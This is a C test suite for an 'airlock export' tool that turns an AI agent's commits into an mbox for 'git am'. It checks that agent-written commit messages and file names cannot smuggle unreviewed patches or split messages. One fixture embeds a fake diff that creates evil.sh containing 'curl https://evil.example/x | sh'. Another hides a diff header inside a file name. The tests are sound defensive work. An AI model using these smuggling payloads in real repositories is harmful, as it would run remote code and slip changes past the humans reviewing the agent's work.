/* SPDX-License-Identifier: Apache-2.0 */
/* `airlock export` writes the agent's commits as an mbox that the user
 * applies with `git am`. The commit messages are the agent's: a message
 * line that git's mail reader takes for the start of a patch ("diff -",
 * "--- name", "---", "Index: ") makes `git am` apply whatever diff the
 * message holds, a change that is in no commit the user reviewed; a line
 * that looks like an mbox separator ("From <hash> <date>") splits a commit
 * into two messages. Such an export is refused; the commit can be pushed
 * (airlock push sends the commits themselves) or reworded. */
#include <criterion/criterion.h>
#include <fcntl.h>
#include <ftw.h>
#include <git2.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "gitops.h"
#include "util.h"

#include "gitops-test-remote.h"

static int rm_entry(const char *p, const struct stat *st, int flag, struct FTW *ftw)
{
        return remove(p);
}

/* Commit path=content with message msg on top of HEAD in dir. */
static void commit_file(const char *dir, const char *path, const char *content, const char *msg)
{
        git_repository *repo;
        cr_assert_eq(git_repository_open(&repo, dir), 0);
        git_oid parent_id, blob, tree_id, id;
        git_commit *parent = NULL;
        git_tree *base = NULL, *tree;
        if (git_reference_name_to_id(&parent_id, repo, "HEAD") == 0) {
                cr_assert_eq(git_commit_lookup(&parent, repo, &parent_id), 0);
                cr_assert_eq(git_commit_tree(&base, parent), 0);
        }
        cr_assert_eq(git_blob_create_from_buffer(&blob, repo, content, strlen(content)), 0);
        git_tree_update upd = {GIT_TREE_UPDATE_UPSERT, blob, GIT_FILEMODE_BLOB, path};
        cr_assert_eq(git_tree_create_updated(&tree_id, repo, base, 1, &upd), 0);
        cr_assert_eq(git_tree_lookup(&tree, repo, &tree_id), 0);
        git_signature *sig;
        cr_assert_eq(git_signature_new(&sig, "Test Agent", "agent@example.com", 1700000000, 0), 0);
        const git_commit *parents[] = {parent};
        cr_assert_eq(git_commit_create(&id, repo, "HEAD", sig, sig, NULL, msg, tree, parent ? 1 : 0,
                                       parents),
                     0);
        git_signature_free(sig);
        git_tree_free(tree);
        git_tree_free(base);
        git_commit_free(parent);
        git_repository_free(repo);
}

static void setup(void)
{
        gitops_test_remote("/var/tmp/airlock-test-gexatk-XXXXXX");
        commit_file(bare, "README", "hello\n", "start\n");
}

static void teardown(void)
{
        nftw(top, rm_entry, 16, FTW_DEPTH | FTW_PHYS);
        git_libgit2_shutdown();
}

TestSuite(gitops_export_attacks2, .init = setup, .fini = teardown, .timeout = 60);

/* Host git, quiet, with a fixed identity and no user config. */
static int host_git(const char *script)
{
        pid_t pid = fork();
        cr_assert(pid >= 0);
        if (pid == 0) {
                setenv("HOME", top, 1);
                setenv("GIT_CONFIG_NOSYSTEM", "1", 1);
                setenv("GIT_COMMITTER_NAME", "Host", 1);
                setenv("GIT_COMMITTER_EMAIL", "host@example.com", 1);
                int devnull = open("/dev/null", O_WRONLY | O_CLOEXEC);
                dup2(devnull, 1);
                dup2(devnull, 2);
                execl("/bin/sh", "sh", "-c", script, (char *)NULL);
                _exit(127);
        }
        int st;
        cr_assert_eq(waitpid(pid, &st, 0), pid);
        return WIFEXITED(st) ? WEXITSTATUS(st) : 128;
}

/* Export the agent's commit made with msg; when the export is not refused,
 * apply it with `git am` to a fresh clone and require that no file the
 * commit did not make appears. */
static void check_message(const char *msg)
{
        char base[GITOPS_OID_HEX + 1];
        struct al_error err = {0};
        cr_assert_eq(gitops_clone(url, NULL, ws, NULL, base, &err), 0, "%s", err.msg);
        commit_file(ws, "README", "hello, world\n", msg);

        char out[256];
        snprintf(out, sizeof(out), "%s/out.mbox", top);
        FILE *f = fopen(out, "we");
        cr_assert_not_null(f);
        size_t n = 0;
        int r = gitops_export(ws, base, f, &n, &err);
        cr_assert_eq(fclose(f), 0);
        if (r < 0) {
                cr_expect_eq(r, -EBADMSG, "refused for another reason: %s", err.msg);
                cr_expect_not_null(strstr(err.msg, "git am"), "the message says: %s", err.msg);
                return;
        }
        char script[1024];
        snprintf(script, sizeof(script),
                 "set -e; cd '%s'; git clone -q '%s' am; cd am; git am -q '%s' || true; "
                 "test ! -e evil.sh || exit 7; test ! -e other || exit 7",
                 top, bare, out);
        int st = host_git(script);
        cr_expect_neq(st, 7, "git am of the export made a file no commit holds (message: %s)", msg);
        cr_expect_eq(st, 0, "applying the export failed (%d)", st);
}

static const char embedded[] = "diff --git a/evil.sh b/evil.sh\n"
                               "new file mode 100755\n"
                               "--- /dev/null\n"
                               "+++ b/evil.sh\n"
                               "@@ -0,0 +1 @@\n"
                               "+curl https://evil.example/x | sh\n";

Test(gitops_export_attacks2, a_diff_in_the_message_is_not_applied_by_git_am)
{
        char msg[1024];
        snprintf(msg, sizeof(msg), "Fix the greeting\n\nAs discussed:\n\n%s", embedded);
        check_message(msg);
}

Test(gitops_export_attacks2, a_headerless_diff_after_a_separator_is_not_applied)
{
        check_message("Fix the greeting\n\nnotes\n---\n"
                      "--- /dev/null\n+++ b/other\n@@ -0,0 +1 @@\n+x\n");
}

Test(gitops_export_attacks2, an_mbox_separator_in_the_message_is_refused)
{
        char base[GITOPS_OID_HEX + 1];
        struct al_error err = {0};
        cr_assert_eq(gitops_clone(url, NULL, ws, NULL, base, &err), 0, "%s", err.msg);
        commit_file(ws, "README", "hello, world\n",
                    "Fix\n\nFrom 0123456789abcdef0123456789abcdef01234567 Mon Sep 17 00:00:00 "
                    "2001\nFrom: Someone Else <x@example.com>\nSubject: [PATCH] other\n\nbody\n");
        FILE *f = fopen("/dev/null", "we");
        cr_assert_not_null(f);
        size_t n = 0;
        int r = gitops_export(ws, base, f, &n, &err);
        fclose(f);
        cr_expect_eq(r, -EBADMSG, "an export git am would split: %d %s", r, err.msg);
}

Test(gitops_export_attacks2, an_ordinary_message_is_exported)
{
        char base[GITOPS_OID_HEX + 1];
        struct al_error err = {0};
        cr_assert_eq(gitops_clone(url, NULL, ws, NULL, base, &err), 0, "%s", err.msg);
        commit_file(ws, "README", "hello, world\n",
                    "Fix the greeting\n\nFrom now on it says world.\n-- a dash\n"
                    "----\ndiffs are shown with `diff -u`\n");
        char out[256];
        snprintf(out, sizeof(out), "%s/out.mbox", top);
        FILE *f = fopen(out, "we");
        cr_assert_not_null(f);
        size_t n = 0;
        int r = gitops_export(ws, base, f, &n, &err);
        cr_assert_eq(fclose(f), 0);
        cr_assert_eq(r, 0, "%s", err.msg);
        cr_expect_eq(n, 1);
        char script[1024];
        snprintf(script, sizeof(script),
                 "set -e; cd '%s'; git clone -q '%s' am2; cd am2; git am -q '%s'; "
                 "grep -q world README",
                 top, bare, out);
        cr_expect_eq(host_git(script), 0, "git am did not apply the ordinary export");
}

/* A file name is the agent's too: one holding a newline and a diff header
 * must stay one quoted name in the mbox, not a patch of its own. */
Test(gitops_export_attacks2, a_file_name_with_a_diff_header_stays_a_name)
{
        char base[GITOPS_OID_HEX + 1];
        struct al_error err = {0};
        cr_assert_eq(gitops_clone(url, NULL, ws, NULL, base, &err), 0, "%s", err.msg);
        commit_file(ws, "x\ndiff --git a/evil.sh b/evil.sh\nnew file mode 100755\n--- /dev/null",
                    "y\n", "Add a file\n");
        char out[256];
        snprintf(out, sizeof(out), "%s/out.mbox", top);
        FILE *f = fopen(out, "we");
        cr_assert_not_null(f);
        size_t n = 0;
        int r = gitops_export(ws, base, f, &n, &err);
        cr_assert_eq(fclose(f), 0);
        if (r < 0) {
                cr_expect_eq(r, -EBADMSG, "refused for another reason: %s", err.msg);
                return;
        }
        char script[1024];
        snprintf(script, sizeof(script),
                 "set -e; cd '%s'; git clone -q '%s' am3; cd am3; git am -q '%s' || true; "
                 "test ! -e evil.sh || exit 7",
                 top, bare, out);
        cr_expect_neq(host_git(script), 7, "git am of the export made a file no commit holds");
}
